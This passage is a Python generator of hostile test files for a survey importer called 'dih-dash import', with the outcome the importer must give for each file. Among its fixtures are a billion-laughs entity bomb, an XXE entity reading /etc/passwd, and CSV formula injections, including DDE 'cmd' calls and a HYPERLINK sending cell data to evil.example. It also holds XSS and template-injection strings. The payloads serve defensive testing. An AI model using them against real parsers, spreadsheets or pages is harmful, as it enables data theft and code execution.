"""Hostile survey files, each with the outcome `dih-dash import` must give it.

Every case is a file that a member, a survey tool or an attacker could hand the hub's staff:
damaged or mixed encodings, control characters, CSV dialect traps, values out of range or
written in other scripts' digits, text meant for a spreadsheet or a web page, XLSX files that
are not what they say or unpack to gigabytes, and files over the upload limits. Its expected
outcome follows docs/spec/survey-format.md (§4 reading, §5 row checks, §7 exit status 0
accepted / 1 rows rejected / 2 file refused) and the README's decisions; it is what the
code must do, not a record of what it did when the case was written.

Deterministic: the same bytes on every run (fixed ZIP timestamps, no randomness), so a
failing case can be regenerated and opened by hand:

    python -m tests.hostile.generate OUTDIR       # the files and OUTDIR/cases.json

`cases.json` lists every case: file, what makes it hostile, settings, extra arguments and
the expected outcome. `tests/hostile/test_hostile_files.py` runs them all.
"""

from __future__ import annotations

import argparse
import json
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

# Fixed so that the same case is the same bytes on every run.
_ZIP_TIME = (2025, 3, 14, 12, 0, 0)

ACCEPTED, REJECTED, REFUSED = 0, 1, 2

# A member's stored values after a real import, keyed by "MEMBER_ID/WAVE"; dates as ISO text.
Stored = dict[str, dict[str, Any]]


@dataclass(frozen=True)
class Expected:
    """What `dih-dash import FILE --json` must answer (and, after a real import, store).

    `errors`, when given, is the exact list of (row, column) of the report's errors, in
    order; `warnings` are (row, column) pairs that must be among the report's warnings
    (row None: the header or the file). `refused` are substrings the one-line refusal must
    contain (case-insensitive). `stored` is checked after a real import (with
    `--skip-invalid` when rows are rejected), `stats` is `dih-dash stats --json` after it.
    `max_rss_mb` bounds the dry run's peak memory (the case then runs in a child process).
    """

    exit: int
    refused: tuple[str, ...] = ()
    errors: tuple[tuple[int, str], ...] | None = None
    warnings: tuple[tuple[int | None, str], ...] = ()
    encoding: str | None = None
    delimiter: str | None = None
    layout: str | None = None
    rows: int | None = None
    stored: Stored = field(default_factory=dict)
    stats: dict[str, int] | None = None
    max_rss_mb: int | None = None
    # A defect found by this case and not fixed yet: the test is a strict xfail naming it
    # (so it fails loudly once fixed, and the mark must go).
    known_bug: str | None = None


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    group: str
    hostile: str  # what makes the file hostile, one line
    expected: Expected
    write: Callable[[Path], None] = field(repr=False, compare=False)
    env: dict[str, str] = field(default_factory=dict)
    args: tuple[str, ...] = ()

    def manifest(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "file": self.filename,
            "group": self.group,
            "hostile": self.hostile,
            "env": self.env,
            "args": list(self.args),
            "expected": asdict(self.expected),
        }


# --- text files -------------------------------------------------------------------------------

HEADER = ("member_id", "company_name", "wave", "assessed_on", "county", "dma_strategy", "dma_green")
GOOD_ROW = ("RO1001", "Piața Brașov SRL", "T0", "14.03.2025", "BV", "40", "55,5")
ROMANIAN = "Piața Brașov SRL"


def _line(cells: Sequence[str], sep: str) -> str:
    return sep.join(cells)


def hub_text(
    rows: Sequence[Sequence[str]],
    *,
    header: Sequence[str] = HEADER,
    sep: str = ";",
    newline: str = "\n",
) -> str:
    """A hub-template file as text: header and rows joined as given (no quoting)."""
    return newline.join(_line(r, sep) for r in [header, *rows]) + newline


def row(member_id: str = "RO1001", **values: str) -> tuple[str, ...]:
    """GOOD_ROW with some cells changed, by column name."""
    cells = dict(zip(HEADER, GOOD_ROW, strict=True))
    cells["member_id"] = member_id
    cells.update(values)
    return tuple(cells[name] for name in HEADER)


def good_rows(count: int = 3) -> list[tuple[str, ...]]:
    names = [ROMANIAN, "Îmbinări Ștefan SRL", "Mobilă Țuțuianu SA"]
    return [row(f"RO{1001 + i}", company_name=names[i % 3]) for i in range(count)]


def _stored(member_id: str, wave: str = "T0", **values: Any) -> Stored:
    return {f"{member_id}/{wave}": values}


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return _bytes(text.encode(encoding))


# --- XLSX, written by hand so that every byte is fixed ---------------------------------------

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"

# A cell: text (inline string), a number, Formula, Date (a serial shown as a date) or Shared.


@dataclass(frozen=True)
class Formula:
    formula: str
    cached: str | float | None


@dataclass(frozen=True)
class Date:
    serial: float


@dataclass(frozen=True)
class Shared:
    index: int


Cell = str | int | float | Formula | Date | Shared | None


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _cell_xml(ref: str, cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, Formula):
        if isinstance(cell.cached, str):
            return (
                f'<c r="{ref}" t="str"><f>{_escape(cell.formula)}</f>'
                f"<v>{_escape(cell.cached)}</v></c>"
            )
        value = "" if cell.cached is None else f"<v>{cell.cached}</v>"
        return f'<c r="{ref}"><f>{_escape(cell.formula)}</f>{value}</c>'
    if isinstance(cell, Date):
        return f'<c r="{ref}" s="1"><v>{cell.serial}</v></c>'
    if isinstance(cell, Shared):
        return f'<c r="{ref}" t="s"><v>{cell.index}</v></c>'
    if isinstance(cell, str):
        return (
            f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_escape(cell)}</t></is></c>'
        )
    return f'<c r="{ref}"><v>{cell}</v></c>'


def sheet_xml(rows: Sequence[Sequence[Cell]], *, first_row: int = 1, prolog: str = "") -> str:
    body = []
    for number, cells in enumerate(rows, start=first_row):
        xml = "".join(_cell_xml(f"{_column(i)}{number}", c) for i, c in enumerate(cells))
        body.append(f'<row r="{number}">{xml}</row>')
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="{_MAIN}"><sheetData>{"".join(body)}</sheetData></worksheet>'
    )


_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="{_MAIN}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs></styleSheet>"
)


def _zip_write(archive: zipfile.ZipFile, name: str, data: str | bytes) -> None:
    info = zipfile.ZipInfo(name, date_time=_ZIP_TIME)
    info.compress_type = zipfile.ZIP_DEFLATED
    archive.writestr(info, data)


def write_xlsx(
    path: Path,
    sheets: Sequence[tuple[str, str]],
    *,
    shared_strings: Callable[[zipfile.ZipFile], None] | None = None,
    extra: Sequence[tuple[str, str | bytes]] = (),
) -> None:
    """A workbook of (sheet name, sheet XML) pairs, with styles (style 1 = a date)."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        f'ContentType="{_SHEET_TYPE}.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1)
    )
    if shared_strings is not None:
        overrides += (
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_SHEET_TYPE}.sharedStrings+xml"/>'
        )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_SHEET_TYPE}.sheet.main+xml"/>'
        f'<Override PartName="/xl/styles.xml" ContentType="{_SHEET_TYPE}.styles+xml"/>'
        f"{overrides}</Types>"
    )
    package_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    sheet_entries = "".join(
        f'<sheet name="{_escape(name)}" sheetId="{i}" r:id="rId{i}"/>'
        for i, (name, _) in enumerate(sheets, start=1)
    )
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
        f"<sheets>{sheet_entries}</sheets></workbook>"
    )
    count = len(sheets)
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, count + 1)
    )
    rels += f'<Relationship Id="rId{count + 1}" Type="{_REL}/styles" Target="styles.xml"/>'
    if shared_strings is not None:
        rels += (
            f'<Relationship Id="rId{count + 2}" Type="{_REL}/sharedStrings" '
            'Target="sharedStrings.xml"/>'
        )
    workbook_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
        f"{rels}</Relationships>"
    )
    with zipfile.ZipFile(path, "w") as archive:
        _zip_write(archive, "[Content_Types].xml", content_types)
        _zip_write(archive, "_rels/.rels", package_rels)
        _zip_write(archive, "xl/workbook.xml", workbook)
        _zip_write(archive, "xl/_rels/workbook.xml.rels", workbook_rels)
        _zip_write(archive, "xl/styles.xml", _STYLES)
        for i, (_, xml) in enumerate(sheets, start=1):
            _zip_write(archive, f"xl/worksheets/sheet{i}.xml", xml)
        if shared_strings is not None:
            shared_strings(archive)
        for name, data in extra:
            _zip_write(archive, name, data)


def xlsx(
    rows: Sequence[Sequence[Cell]], *, sheet: str = "survey", **options: Any
) -> Callable[[Path], None]:
    return lambda path: write_xlsx(path, [(sheet, sheet_xml(rows))], **options)


XLSX_HEADER: tuple[Cell, ...] = HEADER


def xlsx_row(member_id: Cell = "RO1001", **values: Cell) -> tuple[Cell, ...]:
    cells: dict[str, Cell] = dict(zip(HEADER, GOOD_ROW, strict=True))
    cells.update(member_id=member_id, assessed_on=Date(45730), dma_strategy=40, dma_green=55.5)
    cells.update(values)
    return tuple(cells[name] for name in HEADER)


def shared_table(
    *, count: int, text_bytes: int = 0, claimed: int | None = None
) -> Callable[[zipfile.ZipFile], None]:
    """A shared-string table of `count` strings ("Acme SRL", then one of `text_bytes`
    bytes if asked, then empty ones), written a piece at a time; `claimed` its uniqueCount."""
    piece = 4 << 20

    def write(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("xl/sharedStrings.xml", date_time=_ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        unique = count if claimed is None else claimed
        with archive.open(info, "w", force_zip64=True) as table:
            table.write(
                f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}" count="{unique}" '
                f'uniqueCount="{unique}"><si><t>Acme SRL</t></si>'.encode()
            )
            written = 1
            if text_bytes:
                table.write(b"<si><t>")
                for start in range(0, text_bytes, piece):
                    table.write(b"x" * min(piece, text_bytes - start))
                table.write(b"</t></si>")
                written += 1
            empty = b"<si><t></t></si>"
            while written < count:
                batch = min(count - written, piece // len(empty))
                table.write(empty * batch)
                written += batch
            table.write(b"</sst>")

    return write


def shared_xlsx(rows: int, reference: int, **table: Any) -> Callable[[Path], None]:
    """A hub sheet whose company names are shared strings (row 2: string 0)."""
    body: list[Sequence[Cell]] = [("member_id", "company_name", "wave")]
    body += [(f"RO{r}", Shared(0 if r == 2 else reference), "T0") for r in range(2, rows + 2)]
    return lambda path: write_xlsx(
        path, [("survey", sheet_xml(body))], shared_strings=shared_table(**table)
    )


def _xlsx_bytes(build: Callable[[Path], None], scratch: Path) -> bytes:
    build(scratch)
    data = scratch.read_bytes()
    scratch.unlink()
    return data


def renamed(build: Callable[[Path], None]) -> Callable[[Path], None]:
    """The same content under the case's file name (built beside it first)."""

    def write(path: Path) -> None:
        scratch = path.with_name(path.name + ".part")
        path.write_bytes(_xlsx_bytes(build, scratch))

    return write


def truncated(build: Callable[[Path], None], keep: float) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        data = _xlsx_bytes(build, path.with_name(path.name + ".part"))
        path.write_bytes(data[: int(len(data) * keep)])

    return write


def plain_zip(entries: Sequence[tuple[str, bytes]]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in entries:
                _zip_write(archive, name, data)

    return write


# OLE2 compound file signature: legacy .xls and every password-protected .xlsx start so.
OLE2 = bytes.fromhex("D0CF11E0A1B11AE1")
XLSX_GOOD_ROWS: list[Sequence[Cell]] = [
    XLSX_HEADER,
    xlsx_row("RO1001"),
    xlsx_row("RO1002", company_name="Îmbinări Ștefan SRL", wave="T1"),
]

_BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(2, 10))
    + "]>"
)


def billion_laughs_xlsx(path: Path) -> None:
    xml = sheet_xml(
        [("member_id", "company_name", "wave"), ("RO1", "PLACEHOLDER", "T0")],
        prolog=_BILLION_LAUGHS,
    ).replace('<is><t xml:space="preserve">PLACEHOLDER</t></is>', "<is><t>&lol9;</t></is>")
    write_xlsx(path, [("survey", xml)])


def external_entity_xlsx(path: Path) -> None:
    xml = sheet_xml(
        [("member_id", "company_name", "wave"), ("RO1", "PLACEHOLDER", "T0")],
        prolog='<!DOCTYPE ws [<!ENTITY leak SYSTEM "file:///etc/passwd">]>',
    ).replace('<is><t xml:space="preserve">PLACEHOLDER</t></is>', "<is><t>&leak;</t></is>")
    write_xlsx(path, [("survey", xml)])


# --- the cases --------------------------------------------------------------------------------


def _encoding_cases() -> list[Case]:
    good = hub_text(good_rows())
    stored_good = {
        **_stored("RO1001", company_name=ROMANIAN, county="BV", dma_green=55.5),
        **_stored("RO1002", company_name="Îmbinări Ștefan SRL"),
        **_stored("RO1003", company_name="Mobilă Țuțuianu SA"),
    }
    ok = {"members": 3, "assessments": 3, "uploads": 1}
    cedilla = hub_text([row(company_name="Piaţa Braşov „Ţesătoria” SRL")])
    cp1250_only = hub_text([row(company_name="Piaţa Braşov SRL")])
    # The name is the last cell of the file, and its last letter loses its second byte.
    cut_last = "member_id;wave;company_name\n" + "".join(
        f"{r[0]};T0;{r[1]}\n" for r in good_rows(2)
    )
    cut_last_bytes = (cut_last + "RO1003;T0;Fabrica Brașov Ță").encode()[:-1]
    pasted = (
        hub_text(good_rows(1))
        + _line(row("RO1002", company_name="Ţesătoria SRL"), ";").replace("Ţesătoria SRL", "\0")
        + "\n"
    ).encode()
    pasted = pasted.replace(b"\0", "Ţesătoria SRL".encode("cp1250"))
    pasted += (_line(row("RO1003", company_name="Îmbinări Ștefan SRL"), ";") + "\n").encode()
    mid_row = hub_text(good_rows(3)).encode().replace(b"RO1002;", b"RO1002;\xff", 1)
    surrogate = hub_text(good_rows(3)).encode().replace(b"RO1002;", b"RO1002;\xed\xa0\x80", 1)
    ignored_damage = hub_text(
        [(*r, "notă") for r in good_rows(2)], header=(*HEADER, "comentariu")
    ).encode()
    ignored_damage = ignored_damage.replace("notă".encode(), b"not\xe3", 1)
    return [
        Case(
            "utf8-romanian",
            "utf8.csv",
            "encoding",
            "Romanian comma-below letters in UTF-8 without BOM",
            Expected(
                ACCEPTED,
                errors=(),
                encoding="utf-8",
                delimiter=";",
                rows=3,
                stored=stored_good,
                stats=ok,
            ),
            _text(good),
        ),
        Case(
            "utf8-bom",
            "utf8-bom.csv",
            "encoding",
            "UTF-8 with a byte-order mark",
            Expected(ACCEPTED, errors=(), rows=3, stored=stored_good, stats=ok),
            _bytes(b"\xef\xbb\xbf" + good.encode()),
        ),
        Case(
            "utf16-le-bom",
            "utf16le.csv",
            "encoding",
            "UTF-16 little-endian with BOM (Excel's 'Unicode text'), CRLF",
            Expected(ACCEPTED, errors=(), rows=3, stored=stored_good, stats=ok),
            _bytes(b"\xff\xfe" + hub_text(good_rows(), newline="\r\n").encode("utf-16-le")),
        ),
        Case(
            "utf16-be-bom",
            "utf16be.txt",
            "encoding",
            "UTF-16 big-endian with BOM, tab separated",
            Expected(ACCEPTED, errors=(), delimiter="\t", rows=3, stored=stored_good, stats=ok),
            _bytes(b"\xfe\xff" + hub_text(good_rows(), sep="\t").encode("utf-16-be")),
        ),
        Case(
            "utf16-no-bom",
            "utf16-nobom.csv",
            "encoding",
            "UTF-16 without BOM: every other byte NUL",
            Expected(REFUSED),
            _bytes(good.encode("utf-16-le")),
        ),
        Case(
            "utf16-bom-lone-surrogate",
            "utf16-surrogate.csv",
            "encoding",
            "UTF-16 with BOM and an unpaired surrogate: the BOM's encoding is broken",
            Expected(REFUSED),
            _bytes(
                b"\xff\xfe"
                + good.encode("utf-16-le").replace(
                    "RO1002".encode("utf-16-le"), b"\x00\xd8" + "O1002".encode("utf-16-le"), 1
                )
            ),
        ),
        Case(
            "cp1250-cedilla",
            "cp1250.csv",
            "encoding",
            "Windows-1250 with cedilla ş ţ and „quotes” (0x84, 0x94: printable only in cp1250)",
            Expected(
                ACCEPTED,
                errors=(),
                encoding="cp1250",
                rows=1,
                stored=_stored("RO1001", company_name="Piața Brașov „Țesătoria” SRL"),
                stats={"members": 1, "assessments": 1, "uploads": 1},
            ),
            _text(cedilla, "cp1250"),
        ),
        Case(
            "cp1250-or-iso-8859-2",
            "ambiguous.csv",
            "encoding",
            "bytes valid in both Windows-1250 and ISO-8859-2: reported as cp1250",
            Expected(
                ACCEPTED,
                errors=(),
                encoding="cp1250",
                stored=_stored("RO1001", company_name=ROMANIAN),
            ),
            _text(cp1250_only, "cp1250"),
        ),
        Case(
            "utf8-cut-off-last-character",
            "cut-off.csv",
            "encoding",
            "UTF-8 whose last character is cut in half (one invalid byte at the end)",
            Expected(
                REJECTED,
                errors=((4, "company_name"),),
                encoding="utf-8",
                rows=3,
                stored={
                    **_stored("RO1001", company_name=ROMANIAN),
                    **_stored("RO1002", company_name="Îmbinări Ștefan SRL"),
                },
                stats={"members": 2, "assessments": 2, "uploads": 1},
            ),
            _bytes(cut_last_bytes),
        ),
        Case(
            "utf8-invalid-byte-mid-row",
            "mid-row.csv",
            "encoding",
            "UTF-8 with one 0xFF byte in a company name on row 3",
            Expected(
                REJECTED,
                errors=((3, "company_name"),),
                encoding="utf-8",
                rows=3,
                stored={
                    **_stored("RO1001", company_name=ROMANIAN),
                    **_stored("RO1003", company_name="Mobilă Țuțuianu SA"),
                },
            ),
            _bytes(mid_row),
        ),
        Case(
            "utf8-with-a-cp1250-row",
            "mixed.csv",
            "encoding",
            "a row pasted from a Windows-1250 file into a UTF-8 file (row 3)",
            Expected(
                REJECTED,
                errors=((3, "company_name"),),
                encoding="utf-8",
                rows=3,
                stored={
                    **_stored("RO1001", company_name=ROMANIAN),
                    **_stored("RO1003", company_name="Îmbinări Ștefan SRL"),
                },
            ),
            _bytes(pasted),
        ),
        Case(
            "cp1250-with-a-utf8-row",
            "mixed-cp1250.csv",
            "encoding",
            "two Windows-1250 rows, then a UTF-8 row: the UTF-8 letters decide, the rest is "
            "reported, never 'PiaČ›a'",
            Expected(
                REJECTED,
                errors=((2, "company_name"), (3, "company_name")),
                encoding="utf-8",
                stored=_stored("RO1003", company_name="Piața SRL"),
                stats={"members": 1, "assessments": 1, "uploads": 1},
            ),
            _bytes(
                hub_text(
                    [
                        row("RO1001", company_name="Ţesătoria SRL"),
                        row("RO1002", company_name="Bârlad SA"),
                    ]
                ).encode("cp1250")
                + (_line(row("RO1003", company_name="Piața SRL"), ";") + "\n").encode()
            ),
        ),
        Case(
            "utf8-bom-with-a-cp1250-row",
            "bom-mixed.csv",
            "encoding",
            "a UTF-8 BOM, then a Windows-1250 row on line 3: the BOM's promise is broken",
            Expected(REFUSED, refused=("line 3", "UTF-8")),
            _bytes(b"\xef\xbb\xbf" + pasted),
        ),
        Case(
            "utf8-encoded-lone-surrogate",
            "surrogate.csv",
            "encoding",
            "a lone surrogate encoded as UTF-8 bytes (ED A0 80): not UTF-8",
            Expected(
                REJECTED,
                errors=((3, "company_name"),),
                encoding="utf-8",
                stored=_stored("RO1001", company_name=ROMANIAN),
            ),
            _bytes(surrogate),
        ),
        Case(
            "utf8-damage-in-ignored-column",
            "ignored-damage.csv",
            "encoding",
            "a Windows-1250 byte in a column that is not imported: a warning, not an error",
            Expected(
                ACCEPTED,
                errors=(),
                encoding="utf-8",
                warnings=((2, "comentariu"),),
                stored=_stored("RO1001", company_name=ROMANIAN),
            ),
            _bytes(ignored_damage),
        ),
        Case(
            "nul-byte",
            "nul.csv",
            "encoding",
            "a NUL byte inside a company name on line 3",
            Expected(REFUSED, refused=("line 3", "NUL")),
            _bytes(hub_text(good_rows()).encode().replace(b"RO1002;", b"RO1002;A\x00", 1)),
        ),
        Case(
            "escape-character",
            "escape.csv",
            "encoding",
            "an ANSI escape sequence (ESC [31m) in a name on line 4",
            Expected(REFUSED, refused=("line 4", "ESC")),
            _bytes(hub_text(good_rows()).encode().replace(b"RO1003;", b"RO1003;\x1b[31m", 1)),
        ),
        Case(
            "bell-with-cr-line-ends",
            "bell-cr.csv",
            "encoding",
            "old-Mac CR line ends and a BEL character on line 3",
            Expected(REFUSED, refused=("line 3", "BEL")),
            _bytes(
                hub_text(good_rows(), newline="\r").encode().replace(b"RO1002;", b"RO1002;\x07")
            ),
        ),
        Case(
            "cp1250-with-nul",
            "cp1250-nul.csv",
            "encoding",
            "a Windows-1250 file with a NUL byte on line 2",
            Expected(REFUSED, refused=("line 2", "NUL")),
            _bytes(cedilla.encode("cp1250").replace(b"RO1001;", b"RO1001;A\x00")),
        ),
        Case(
            "cr-line-ends",
            "cr.csv",
            "encoding",
            "CR-only line ends",
            Expected(ACCEPTED, errors=(), rows=3, stored=stored_good),
            _text(hub_text(good_rows(), newline="\r")),
        ),
        Case(
            "crlf-and-trailing-ctrl-z",
            "ctrl-z.csv",
            "encoding",
            "CRLF line ends and the DOS end-of-file mark (Ctrl-Z) at the end",
            Expected(ACCEPTED, errors=(), rows=3, stored=stored_good),
            _bytes(hub_text(good_rows(), newline="\r\n").encode() + b"\x1a"),
        ),
        Case(
            "bidi-override-and-zero-width",
            "bidi.csv",
            "encoding",
            "right-to-left override and zero-width joiner in a name: any Unicode is a name",
            Expected(
                ACCEPTED,
                errors=(),
                stored=_stored("RO1001", company_name="Acme\u202eLRS\u200d Nord"),
            ),
            _text(hub_text([row(company_name="Acme\u202eLRS\u200d Nord")])),
        ),
        Case(
            "binary-garbage",
            "garbage.csv",
            "encoding",
            "4 KB of every byte value: neither text nor a workbook",
            Expected(REFUSED),
            _bytes(bytes(range(256)) * 16),
        ),
    ]


def _dialect_cases() -> list[Case]:
    rows = good_rows()
    quoted_break = hub_text(
        [row(company_name='"Piața\nBrașov SRL"'), row("RO1002", dma_green="130")]
    )
    return [
        Case("empty-file", "empty.csv", "dialect", "0 bytes", Expected(REFUSED), _bytes(b"")),
        Case(
            "only-whitespace",
            "blank.csv",
            "dialect",
            "only spaces and line ends",
            Expected(REFUSED),
            _text("  \n\n \r\n"),
        ),
        Case(
            "header-only",
            "header-only.csv",
            "dialect",
            "a header and no rows",
            Expected(REFUSED),
            _text(hub_text([])),
        ),
        Case(
            "header-and-blank-lines",
            "header-blank.csv",
            "dialect",
            "a header followed only by empty lines and separators",
            Expected(REFUSED),
            _text(hub_text([]) + "\n;;;;;;\n\n"),
        ),
        Case(
            "unbalanced-quote",
            "unbalanced.csv",
            "dialect",
            "a quote opened on row 3 and never closed: refused, naming the row",
            Expected(REFUSED, refused=("row 3",)),
            _text(hub_text(rows).replace("RO1002;", 'RO1002;"', 1)),
        ),
        Case(
            "quoted-line-break",
            "multiline.csv",
            "dialect",
            "a quoted name with a line break; the next row's error keeps its spreadsheet row",
            Expected(
                REJECTED,
                errors=((3, "dma_green"),),
                rows=2,
                stored=_stored("RO1001", company_name="Piața\nBrașov SRL"),
            ),
            _text(quoted_break),
        ),
        Case(
            "comma-separated-with-semicolons-in-names",
            "comma.csv",
            "dialect",
            "comma separator; names holding semicolons, quoted",
            Expected(
                ACCEPTED,
                errors=(),
                delimiter=",",
                stored=_stored("RO1001", company_name="Alfa; Beta SRL", dma_green=55.5),
            ),
            _text(hub_text([row(company_name='"Alfa; Beta SRL"', dma_green="55.5")], sep=",")),
        ),
        Case(
            "semicolon-separated-with-commas-in-names",
            "semicolon.csv",
            "dialect",
            "semicolon separator, decimal commas and names holding commas",
            Expected(
                ACCEPTED,
                errors=(),
                delimiter=";",
                stored=_stored("RO1001", company_name="Alfa, Beta SRL", dma_green=55.5),
            ),
            _text(hub_text([row(company_name="Alfa, Beta SRL")])),
        ),
        Case(
            "pipe-separated",
            "pipe.txt",
            "dialect",
            "vertical bar separator",
            Expected(ACCEPTED, errors=(), delimiter="|", stored=_stored("RO1001", dma_green=55.5)),
            _text(hub_text([row(dma_green="55.5")], sep="|")),
        ),
        Case(
            "very-long-name",
            "long-name.csv",
            "dialect",
            # Over the csv module's cell limit (131,072 characters), which the reader keeps
            # on purpose: the file is refused, naming the row.
            "a 1 MB company name on row 3",
            Expected(REFUSED, refused=("row 3", "longer than 131,072 characters")),
            _text(hub_text([rows[0], row("RO1002", company_name="Ș" * 500_000)])),
        ),
        Case(
            "very-long-ignored-cell",
            "long-cell.csv",
            "dialect",
            "a 2 MB cell on row 2, in a column that is not imported",
            Expected(REFUSED, refused=("row 2", "longer than 131,072 characters")),
            _text(
                hub_text(
                    [(*rows[0], "x" * 2_000_000), (*rows[1], "y")],
                    header=(*HEADER, "comentariu"),
                )
            ),
        ),
        Case(
            "too-many-columns",
            "wide.csv",
            "dialect",
            "1,001 columns",
            Expected(REFUSED, refused=("1,000",)),
            _text(
                hub_text(
                    [(*rows[0], *("1",) * 994)],
                    header=(*HEADER, *(f"extra_{i}" for i in range(994))),
                )
            ),
        ),
        Case(
            "duplicated-required-header",
            "dup-header.csv",
            "dialect",
            "member_id twice, with different values: the first is read, the second named",
            Expected(
                ACCEPTED,
                errors=(),
                warnings=((None, "member_id"),),
                stored=_stored("RO1001", company_name=ROMANIAN),
            ),
            _text(
                hub_text([(*r, f"X{i}") for i, r in enumerate(rows)], header=(*HEADER, "member_id"))
            ),
        ),
        Case(
            "headers-differing-by-diacritics",
            "diacritics-header.csv",
            "dialect",
            "`Etapa` and `Etapă`: one field once diacritics are folded; the first is read",
            Expected(
                ACCEPTED,
                errors=(),
                warnings=((None, "Etapă"),),
                stored=_stored("RO1", "T0", company_name="Alfa SRL"),
                stats={"members": 1, "assessments": 1, "uploads": 1},
            ),
            _text(
                hub_text(
                    [("RO1", "Alfa SRL", "T0", "T1")],
                    header=("cod_membru", "Denumire", "Etapa", "Etapă"),
                )
            ),
        ),
        Case(
            "romanian-headers-with-diacritics",
            "ro-headers.csv",
            "dialect",
            "RO headers with diacritics, NBSP and odd case: `Cod membru`, `Etapă`, `Județ`",
            Expected(
                ACCEPTED,
                errors=(),
                layout="hub",
                stored=_stored("RO1", "T1", company_name="Țesătoria SRL", county="CJ"),
            ),
            _text(
                hub_text(
                    [("ro1", "Ţesătoria SRL", "t1", "Cluj")],
                    header=("\u00a0Cod  membru ", "DENUMIRE", "Etapă", "Județ"),
                )
            ),
        ),
        Case(
            "unknown-layout",
            "unknown.csv",
            "dialect",
            "a header that matches no layout",
            Expected(REFUSED, refused=("member_id", "wave")),
            _text("name;score;year\nAlfa;40;2025\n"),
        ),
        Case(
            "dma-export-csv",
            "dma-export.csv",
            "dialect",
            "the DMA tool's export saved as CSV, headers with trailing spaces and NBSP",
            Expected(
                ACCEPTED,
                errors=(),
                layout="dma-export",
                stored=_stored("SME-1", company_name=ROMANIAN, dma_overall=42.5),
            ),
            _text(
                "SME name ;SME ID;DMA Timing\u00a0;DMA Score;Digital Business Strategy;"
                "Digital Readiness;Human-Centric Digitalisation;Data Governance;"
                "Automation & Artificial Intelligence;Green Digitalisation;EDIH Name\n"
                f"{ROMANIAN};sme-1;T0;42,5;40;45;50;35;30;55;Transilvania DIH\n"
            ),
        ),
    ]


def _injection_cases() -> list[Case]:
    names = {
        "formula-hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "formula-dde": "=cmd|' /C calc'!A0",
        "formula-plus": "+SUM(1+1)*cmd|' /C calc'!A0",
        "formula-at": "@SUM(1+1)",
        "formula-minus-tab": "-2+3\tx",
        "html-link": '<a href="javascript:alert(1)">Alfa</a>',
        "html-script": "<script>alert('x')</script> SRL",
        "html-img-onerror": '<img src=x onerror="alert(1)"> SRL',
        "markdown-bold-link": "**Alfa** [click](http://evil.example) SRL",
        "markdown-latex": "$\\frac{1}{0}$ & `code` _Beta_ SRL",
        "plotly-tags": "<b>Alfa</b><br>SRL <sup>2</sup>",
        "curly-template": "{{7*7}} ${7*7} %(x)s {0} SRL",
    }
    cases = []
    for name, text in names.items():
        quoted = '"' + text.replace('"', '""') + '"'
        cases.append(
            Case(
                f"text-{name}",
                f"text-{name}.csv",
                "injection",
                f"company name {text!r}: stored exactly, as text",
                Expected(ACCEPTED, errors=(), stored=_stored("RO1001", company_name=text)),
                _text(hub_text([row(company_name=quoted)])),
            )
        )
    cases.append(
        Case(
            "text-injection-in-member-id",
            "text-member-id.csv",
            "injection",
            "formula and HTML in member id, cluster and sector",
            Expected(
                ACCEPTED,
                errors=(),
                stored=_stored(
